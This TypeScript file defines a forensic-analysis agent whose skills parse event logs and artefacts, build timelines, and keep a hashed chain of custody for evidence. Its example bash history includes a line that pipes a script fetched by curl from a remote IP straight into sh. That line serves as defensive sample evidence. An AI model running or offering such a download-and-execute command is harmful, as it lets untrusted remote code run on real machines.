/** Forensic analysis: reads event logs and artefacts exactly, orders what they tell, and keeps the chain of custody. */
import { z } from 'zod';
import {
  analyzeEventLog,
  Artifact,
  ARTIFACT_BYTES_MAX,
  ArtifactKind,
  collectEvidence,
  createTimeline,
  CUSTODY_ENTRIES_MAX,
  CustodyEntry,
  CustodyReport,
  EventLogFacts,
  gatherSource,
  hashOf,
  judgeArtifact,
  judgeCustody,
  judgeTimeline,
  readArtifact,
  toListed,
  TimelineEntry,
  TimelineSource,
  type Gathered,
  type Piece,
} from '../analysis/forensics/index.ts';
import { assessHostIndicators } from '../analysis/endpoint/index.ts';
import { createEvtxReader, NotEvtx } from '../analysis/evtx/index.ts';
import { collect, openSingle, unpack } from '../analysis/readers/index.ts';
import { conclude } from '../analysis/verdict/index.ts';
import { defineAgent } from '../mesh/index.ts';
import { AnalysisResult, AuroraError, skill, Source, type SkillContext } from '../protocol/index.ts';
import { threatSkill } from './analyze-threat.ts';

const HISTORY = {
  name: 'bash_history',
  text: '#1764000000\nwhoami\n#1764000042\ncurl -s http://198.51.100.7/x.sh | sh\n',
};

/** A log without records, gzipped. */
const EMPTY_LOG = 'H4sIAAAAAAACA+3GsQ0AEAAF0S8WMIUB7MAmJBJD2EJnVomo1HT3mrvYSqot62ZO+34rOT0Xph8CAAAAAADfLdeWYcwAEAAA';

const parseEvtx = skill({
  id: 'parse_evtx',
  title: 'Parse an event log',
  description:
    'Reads a Windows event log (.evtx) record by record: histogram, span of time, damage, and what the records say by themselves.',
  tags: ['forensics', 'evtx', 'windows', 'event-log'],
  effect: 'read',
  routable: true,
  examples: [{ log: { name: 'empty.evtx', base64: EMPTY_LOG } }],
  params: z.object({
    log: Source.describe('the binary log, also gzipped'),
    sample_max: z.number().int().min(0).max(500).default(50).describe('how many records are listed as they stand'),
  }),
  result: AnalysisResult.extend({ log: EventLogFacts }),
});

const parseArtifact = skill({
  id: 'parse_artifact',
  title: 'Parse an artefact',
  description:
    'Reads a prefetch file, a shell link, login records, a history of commands or a text log: exact values, times in UTC, and what cannot be read.',
  tags: ['forensics', 'prefetch', 'lnk', 'utmp', 'history', 'log'],
  effect: 'read',
  routable: true,
  examples: [{ artifact: HISTORY }],
  params: z.object({ artifact: Source, kind: ArtifactKind.optional().describe('found out by itself when absent') }),
  result: AnalysisResult.extend({ artifact: Artifact }),
});

const buildTimeline = skill({
  id: 'build_timeline',
  title: 'Build a timeline',
  description:
    'Orders what event logs, recordings and artefacts tell on UTC, each happening once, with the clock it was told by and the skew of each source.',
  tags: ['forensics', 'timeline', 'evtx'],
  effect: 'read',
  routable: true,
  examples: [{ sources: [{ source: HISTORY }] }],
  params: z.object({
    sources: z
      .array(
        z.object({
          source: Source,
          skew_ms: z
            .number()
            .int()
            .min(-157_680_000_000)
            .max(157_680_000_000)
            .optional()
            .describe('by how much the clock of the source is known to have been ahead'),
          year: z
            .number()
            .int()
            .min(1970)
            .max(9999)
            .optional()
            .describe('of its first record, where the format keeps none (syslog)'),
          zone: z
            .string()
            .regex(/^(?:Z|[+-](?:0\d|1[0-4]):[0-5]\d)$/, 'Z or an offset like +02:00')
            .optional()
            .describe('of its clock, where the format keeps none'),
        }),
      )
      .min(1)
      .max(50),
  }),
  result: AnalysisResult.extend({ timeline: z.array(TimelineEntry), sources: z.array(TimelineSource) }),
});

const collectSkill = skill({
  id: 'collect_evidence',
  title: 'Collect evidence',
  description: 'Hashes pieces of evidence and adds an entry for each to a chain of custody.',
  tags: ['forensics', 'custody', 'evidence', 'hash'],
  effect: 'read',
  routable: true,
  examples: [{ sources: [HISTORY], collected_by: 'analyst@example.org', collected_at: '2026-11-24T09:30:00Z' }],
  params: z.object({
    sources: z.array(Source).min(1).max(100),
    collected_by: z.string().min(1).max(255),
    collected_at: z.iso
      .datetime({ offset: true })
      .describe('as the collector says: the chain proves order and bytes, not the hour'),
    note: z.string().max(1_024).default(''),
    chain: z.array(CustodyEntry).max(CUSTODY_ENTRIES_MAX).default([]).describe('the entries so far'),
  }),
  result: AnalysisResult.extend({ chain: z.array(CustodyEntry) }),
});

const verify = skill({
  id: 'verify_custody',
  title: 'Verify custody',
  description:
    'Checks a chain of custody entry by entry, and the bytes at hand against it; names each one that does not fit.',
  tags: ['forensics', 'custody', 'evidence', 'hash'],
  effect: 'read',
  routable: true,
  examples: [{ chain: [], sources: [] }],
  params: z.object({
    chain: z.array(CustodyEntry).max(CUSTODY_ENTRIES_MAX),
    sources: z.array(Source).max(100).default([]).describe('the pieces, under the names of the entries'),
    head: z
      .string()
      .regex(/^[0-9a-f]{64}$/)
      .optional()
      .describe('the hash of the last entry, kept elsewhere: only with it is a cut end seen'),
  }),
  result: AnalysisResult.extend({ custody: CustodyReport }),
});

const threat = threatSkill({
  description: 'Judges command lines and file paths among indicators, as artefacts show them.',
  tags: ['ioc', 'forensics'],
  example: { type: 'file_path', value: 'C:\\Users\\Public\\svchost.exe' },
});

/** Reads event logs and artefacts exactly, and orders what they tell. */
export const forensicAnalyst = defineAgent({
  id: 'forensic-analyst',
  name: 'Forensic analysis',
  description: 'Reads event logs and artefacts exactly, orders what they tell, and keeps the chain of custody.',
  skills: [
    parseEvtx.implement(({ log, sample_max }, { blobs, progress, signal, workers }) =>
      progress.tool('read event log', { name: log.name }, async () => {
        const reader = createEvtxReader(onlyFile(log.name, blobs.open(log)), { workers, signal });
        const onProgress = (records: number) => progress.status(`${records} records read`);
        try {
          return await analyzeEventLog(reader, { name: log.name, sample_max, onProgress, signal });
        } catch (reason) {
          if (!(reason instanceof NotEvtx)) throw reason;
          throw new AuroraError(4220, { message: `Not an event log: ${reason.message}`, detail: { path: '/log' } });
        }
      }),
    ),
    parseArtifact.implement(async ({ artifact, kind }, { blobs, progress }) => {
      const file = await openSingle({ name: artifact.name, bytes: blobs.open(artifact) });
      const bytes = await collect(file.bytes, ARTIFACT_BYTES_MAX);
      return progress.tool('read artefact', { name: file.name, bytes: bytes.length }, () => {
        const reading = readArtifact(bytes, file.name, kind);
        return { ...judgeArtifact(reading), artifact: toListed(reading.artifact) };
      });
    }),
    buildTimeline.implement(async ({ sources }, { blobs, progress, signal, workers }) => {
      const timeline = createTimeline();
      const gathered: Gathered[] = [];
      for (const [index, { source, ...known }] of sources.entries()) {
        progress.status(`source ${index + 1} of ${sources.length}`);
        const input = { name: source.name, bytes: blobs.open(source), ...known };
        gathered.push(
          await progress.tool('read source', { name: source.name }, () =>
            gatherSource(timeline, input, { workers, signal }),
          ),
        );
      }
      return progress.tool('order entries', { sources: sources.length }, () => judgeTimeline(timeline, gathered));
    }),
    collectSkill.implement(async ({ sources, chain, ...said }, ctx) =>
      collectEvidence(chain, await hashAll(sources, ctx), said),
    ),
    verify.implement(async ({ chain, sources, head }, ctx) => {
      const pieces = await hashAll(sources, ctx);
      return ctx.progress.tool('verify custody', { entries: chain.length }, () => judgeCustody(chain, pieces, head));
    }),
    threat.implement(({ iocs }, { content, progress }) =>
      progress.tool('assess artefact indicators', iocs, () => conclude(assessHostIndicators(iocs, content))),
    ),
  ],
});

/** The hash of each piece, one after the other: they may be large. */
async function hashAll(sources: readonly Source[], { blobs, progress, signal }: SkillContext): Promise<Piece[]> {
  const pieces: Piece[] = [];
  for (const source of sources) {
    const piece = await progress.tool('hash evidence', { name: source.name }, () => hashOf(blobs.open(source), signal));
    pieces.push({ name: source.name, ...piece });
  }
  return pieces;
}

/** The bytes of the one log, out of its gzip when it lies in one. */
async function* onlyFile(name: string, bytes: AsyncIterable<Uint8Array>): AsyncGenerator<Uint8Array> {
  for await (const file of unpack({ name, bytes })) {
    yield* file.bytes;
    return;
  }
}
